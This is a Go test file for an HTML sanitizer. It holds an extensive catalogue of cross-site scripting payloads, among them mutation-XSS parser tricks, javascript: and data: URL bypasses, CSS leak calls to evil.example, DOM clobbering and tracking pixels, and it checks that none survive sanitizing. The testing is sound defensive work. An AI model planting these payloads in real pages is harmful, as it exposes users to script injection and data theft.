package safe

import (
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// attacks by group. Each is also wrapped in the contexts of wrappings.
var attacks = map[string][]string{
	"event": {
		`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, `<body onload=alert(1)>`, `<div onclick="alert(1)">x</div>`,
		`<svg onload=alert(1)>`, `<video onloadstart=alert(1) src=x>`, `<details open ontoggle=alert(1)>`, `<a onfocus=alert(1) autofocus href=#>x</a>`,
		`<marquee onstart=alert(1)>`, `<img src=x OnErRoR=alert(1)>`, "<img src=x onerror\n=alert(1)>", "<img src=x\x00onerror=alert(1)>", `<p/onmouseover=alert(1)>`,
		`<input autofocus onfocus=alert(1)>`, `<audio src=x onerror=alert(1)></audio>`, `<img """><img src=x onerror=alert(1)>`,
		`<b x="<img src=x onerror=alert(1)>">`, `<a href="x" title="' onclick='alert(1)">t</a>`, "<img src=`x` onerror=alert(1)>",
	},
	"script": {
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<script/src=data:,alert(1)>`, `<<script>alert(1)//<</script>`, `<script>a='</scr'+'ipt>'</script>`, `<!--><script>alert(1)</script>-->`,
		`<script>alert(1)`, "<script\x0c>alert(1)</script>", `<svg><script>alert(1)</script></svg>`, `<math><script>alert(1)</script></math>`,
		`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`, `<xml><script>alert(1)</script></xml>`,
	},
	"element": {
		`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src=javascript:alert(1)>`,
		`<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=X></applet>`,
		`<form action="https://evil.example"><input name=q><button formaction=javascript:alert(1)>go</button></form>`, `<isindex type=image src=1 onerror=alert(1)>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href="https://evil.example/">`,
		`<template><img src=x onerror=alert(1)></template>`, `<template shadowrootmode=open><script>alert(1)</script></template>`, `<slot name=x>`, `<portal src=//evil.example>`,
		`<frameset><frame src=javascript:alert(1)></frameset>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<textarea><img src=x onerror=alert(1)></textarea>`, `<title><img src=x onerror=alert(1)></title>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`,
		`<noembed><img src=x onerror=alert(1)></noembed>`, `<dialog open>x</dialog>`, `<select><option>x</select>`, `<keygen autofocus onfocus=alert(1)>`, `<bgsound src=javascript:alert(1)>`,
		`<map name=m><area href=javascript:alert(1)></map>`, `<canvas id=c></canvas>`, `<layer src=x>`, `<command onselect=alert(1)>`, `<menuitem label=x onclick=alert(1)>`, `<x-el is=y onclick=alert(1)>q</x-el>`,
		`<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>`, `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`, `<iframe src="https://evil.example/www.youtube.com/embed/x"></iframe>`,
		`<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>`, `<iframe src="https://www.youtube.com/embed/../redirect"></iframe>`, `<iframe src="https://www.youtube.com:8443/embed/x"></iframe>`, `<iframe src="//www.youtube.com\@evil.example/embed/x"></iframe>`,
	},
	"mutation": {
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><style></noscript><img src=x onerror=alert(1)>`,
		`<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></foreignObject></svg>`, `<svg><desc><img src=x onerror=alert(1)></desc></svg>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
		`<table><td><svg><title><table><style></table><img src=x onerror=alert(1)>`, `<select><style></select><img src=x onerror=alert(1)>`, `<a><table><a href=javascript:alert(1)>`, `<p><table><p>x`,
		`<b><i><b></i></b><p><b>x`, `<select><svg><script>alert(1)</script></select>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math href="javascript:alert(1)">x</math>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`,
		`<svg><animate attributeName=href values=javascript:alert(1)></svg>`, `<svg><use href="data:image/svg+xml,x"/></svg>`, `<svg><set attributeName=onmouseover to=alert(1)></svg>`, `<div><![CDATA[<img src=x onerror=alert(1)>]]></div>`, `<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>`,
		`<!-- <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<?xml version="1.0"?><img src=x onerror=alert(1)>`, `<!DOCTYPE x [<!ENTITY y "z">]>&y;`, `</br onclick=alert(1)>`, `<image src=x onerror=alert(1)>`,
		`<mglyph><malignmark><style><img src=x onerror=alert(1)>`, `<ruby><rtc><table><rt><img src=x onerror=alert(1)>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>`,
	},
	"css": {
		`<div style="background:url(javascript:alert(1))">x</div>`, `<style>@import '//evil.example/x.css';</style>`, `<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`,
		`<p style="width:expression(alert(1))">x</p>`, `<p style="-moz-binding:url(//evil.example)">x</p>`, `<p class="admin-panel overlay">x</p>`, `<div style="behavior:url(x.htc)">x</div>`, `<b style="content:url(//evil.example/?leak)">x</b>`, `<style>a[href^=x]{background:url(//evil.example)}</style>`,
	},
	"url": {
		`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="feed:javascript:alert(1)">x</a>`, `<a href="feed:data:text/html,x">x</a>`, `<a href="view-source:http://x">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="intent://x#Intent;end">x</a>`, `<a href="about:blank">x</a>`, `<a href="blob:https://x/y">x</a>`,
		`<a href="jar:https://x!/y">x</a>`, `<a href="ms-its:x">x</a>`, `<a href="chrome://settings">x</a>`, `<a href="livescript:x">x</a>`, `<a href="mocha:x">x</a>`, `<a href="ws://x">x</a>`, `<a href="&Tab;javascript:alert(1)">x</a>`, "<a href=\"\u00a0javascript:alert(1)\">x</a>", "<a href=\"\u3000javascript:alert(1)\">x</a>",
		`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="data:text/html;base64,x">`, `<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">`, `<video poster="javascript:alert(1)" src="https://x/v.mp4"></video>`, `<video><source src="javascript:alert(1)"></video>`,
		`<audio><source src="data:text/html,x"></audio>`, `<picture><source srcset="javascript:alert(1)"><img src="https://x/i.png"></picture>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<q cite="data:text/html,x">x</q>`, `<del cite="javascript:alert(1)">x</del>`, `<track src="javascript:alert(1)">`,
		`<img lowsrc="javascript:alert(1)" src="https://x/i.png">`, `<img dynsrc="javascript:alert(1)">`, `<table background="javascript:alert(1)"><tr><td>x</table>`, `<a ping="https://evil.example" href="https://x/">x</a>`, `<img longdesc="javascript:alert(1)" src="https://x/i.png">`, `<img usemap="#m" src="https://x/i.png">`, `<a href="//evil.example/\..">x</a>`, `<a href="https://x/" attributionsrc="https://evil.example">x</a>`,
	},
	"clobber": {
		`<a id=location href=https://x/>x</a>`, `<img name=body src=https://x/i.png>`, `<p id=__proto__>x</p>`, `<a id=cookie name=cookie href=https://x/>x</a>`, `<b id="getElementById">x</b>`, `<a name=attributes>x</a>`, `<p id="user-content-x y">x</p>`, `<div id="a'b">x</div>`, `<h1 id=top>x</h1>`,
	},
	"pixel": {
		`<img src="https://x/i.gif" width=1 height=1>`, `<img src="https://x/i.gif" width="0">`, `<img src="https://x/i.gif" style="width:1px;height:1px">`, `<img src="https://x/i.gif" style="display: none">`, `<img src="https://x/i.gif" height="1px">`, `<img src="https://x/i.gif" style="visibility:hidden">`,
		`<img src="https://pixel.wp.com/b.gif?v=1">`, `<img src="https://feeds.feedburner.com/~r/x/~4/y">`, `<img src="https://www.google-analytics.com/collect?x">`, `<img src="https://sb.scorecardresearch.com/p">`, `<img src="https://www.facebook.com/tr?id=1">`, `<img src="https://x/1x1.gif">`, `<img src="https://x/i.gif" width="1.0">`, `<img hidden src="https://x/i.gif">`, `<img srcset="https://pixel.wp.com/b.gif 1x">`, `<video src="https://pixel.wp.com/b.gif"></video>`, `<picture><source srcset="https://pixel.wp.com/b.gif"><img src="https://pixel.wp.com/b.gif"></picture>`,
	},
	"balance": {
		`<div><b>x`, `x</div></td></table>y`, `</p></p>`, `<ul><li>a<li>b`, `<table><tr><td>x`, `<a href="https://x/">x`, `<b><i>x</b></i>`, `<p><div>x</p></div>`, `</body></html>x`, `<details><summary>x`, `<blockquote><p>x</blockquote>y</p>`, `<!-- x`, `<h1>x</h2>`, `<td>x</td>`, `<li>x`, `<dd>x<dt>y`, `x</article></main>`, `<pre><code>x`,
	},
	"text": {
		"a\u202Etxt.exe", "x\U000E0041\U000E0042", "a\u2066b", "x\x00y\x08z", "a\uFEFFb\uFFFE", "x\x85y",
	},
}

// wrappings put an attack where parsers behave otherwise.
var wrappings = []string{"%s", "<p>%s</p>", "<table><tr><td>%s</table>", "<ul><li>%s", "<b><a href='https://x/'>%s", "<math><mtext>%s", "<svg>%s", "<select>%s", "<noscript>%s</noscript>", "<blockquote>%s</blockquote><p>after"}

func TestNothingActiveSurvives(t *testing.T) {
	for group, list := range attacks {
		for _, attack := range list {
			for _, w := range wrappings {
				in := fmt.Sprintf(w, attack)
				out := HTML(in)
				if err := inspect(out); err != nil {
					t.Errorf("%s: HTML(%q) = %q: %v", group, in, out, err)
				}
				if again := HTML(out); again != out {
					t.Errorf("%s: HTML(%q) = %q, and again %q", group, in, out, again)
				}
				if group == "pixel" && w == "%s" && out != "" {
					t.Errorf("HTML(%q) = %q, want nothing", in, out)
				}
			}
		}
	}
}

func TestHiddenImagesGo(t *testing.T) {
	for _, in := range []string{`<div style="display:none">a<p><img src="https://x/i.png"></p></div>`, `<p hidden><a href="https://x/"><img src="https://x/i.png"></a>a</p>`} {
		if out := HTML(in); strings.Contains(out, "<img") || Text(out) != "a" {
			t.Errorf("HTML(%q) = %q, want the text without the image", in, out)
		}
	}
	if out := HTML(`<video poster="https://pixel.wp.com/b.gif" src="https://x/v.mp4"></video>`); strings.Contains(out, "poster") {
		t.Errorf("HTML keeps a counting poster: %q", out)
	}
}

// inspect says what of out may not be republished. It knows nothing of the
// filter's tables: what it allows is written down here once more.
func inspect(out string) error {
	z := html.NewTokenizer(strings.NewReader(out))
	var open []string
	for {
		switch z.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				return fmt.Errorf("%v left open", open)
			}
			return inspectTree(out)
		case html.CommentToken, html.DoctypeToken:
			return fmt.Errorf("comment or declaration")
		case html.StartTagToken:
			name, _ := z.TagName()
			if !void(atom.Lookup(name)) {
				open = append(open, string(name))
			}
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(open) == 0 || open[len(open)-1] != string(name) {
				return fmt.Errorf("</%s> closes nothing", name)
			}
			open = open[:len(open)-1]
		}
	}
}

func inspectTree(out string) error {
	root, err := fragmentTree(out)
	if err != nil {
		return err
	}
	var bad error
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			if bad == nil {
				bad = inspectNode(c)
			}
			visit(c)
		}
	}
	visit(root)
	return bad
}

const allowed = ` a abbr acronym address article aside audio b bdi bdo big blockquote br caption center cite code col colgroup data dd del details dfn
 dir div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i iframe img ins kbd li main mark menu nav ol p picture pre q rb rp rt rtc
 ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead time tr track tt u ul var video wbr `

const allowedAttrs = ` abbr align allowfullscreen alt cite class colspan controls datetime default dir headers height href hreflang id kind label lang loading loop
 media muted open playsinline poster preload referrerpolicy rel reversed rowspan sandbox scope sizes span src srclang srcset start summary title type value width `

func inspectNode(n *html.Node) error {
	if n.Type == html.TextNode {
		if strings.ContainsAny(n.Data, "\x00\u202E\uFEFF\U000E0041") {
			return fmt.Errorf("hidden characters in %q", n.Data)
		}
		return nil
	}
	if n.Type != html.ElementNode || n.Namespace != "" || !strings.Contains(strings.ReplaceAll(allowed, "\n", " "), " "+n.Data+" ") {
		return fmt.Errorf("<%s> in namespace %q", n.Data, n.Namespace)
	}
	for _, a := range n.Attr {
		v := strings.ToLower(strings.TrimSpace(a.Val))
		switch {
		case !strings.Contains(strings.ReplaceAll(allowedAttrs, "\n", " "), " "+a.Key+" "):
			return fmt.Errorf("%s=%q", a.Key, a.Val)
		case a.Key == "class" && !strings.HasPrefix(v, "language-"), a.Key == "id" && !strings.HasPrefix(v, "user-content-"):
			return fmt.Errorf("%s=%q", a.Key, a.Val)
		case a.Key == "href" || a.Key == "src" || a.Key == "cite" || a.Key == "poster":
			if err := inspectURL(n, v); err != nil {
				return fmt.Errorf("%s: %w", a.Key, err)
			}
		case a.Key == "srcset":
			for _, c := range strings.Split(v, ",") {
				if err := inspectURL(n, strings.TrimSpace(c)); err != nil {
					return err
				}
			}
		}
	}
	return nil
}

func inspectURL(n *html.Node, v string) error {
	scheme, _, ok := strings.Cut(v, ":")
	if !ok || strings.ContainsAny(scheme, "/?#%") {
		if n.Data == "iframe" {
			return fmt.Errorf("frame of %q", v)
		}
		return nil
	}
	switch scheme {
	case "http", "https":
		if n.Data == "iframe" && !strings.HasPrefix(v, "https://www.youtube.com/embed/") && !strings.HasPrefix(v, "https://player.vimeo.com/video/") {
			return fmt.Errorf("frame of %q", v)
		}
		return nil
	case "mailto", "tel", "xmpp", "ftp", "magnet", "gemini":
		return nil
	case "data":
		if n.Data == "img" && strings.HasPrefix(v, "data:image/") && !strings.Contains(v, "svg") && len(v) <= 8<<10 {
			return nil
		}
	}
	return fmt.Errorf("address %q", v)
}
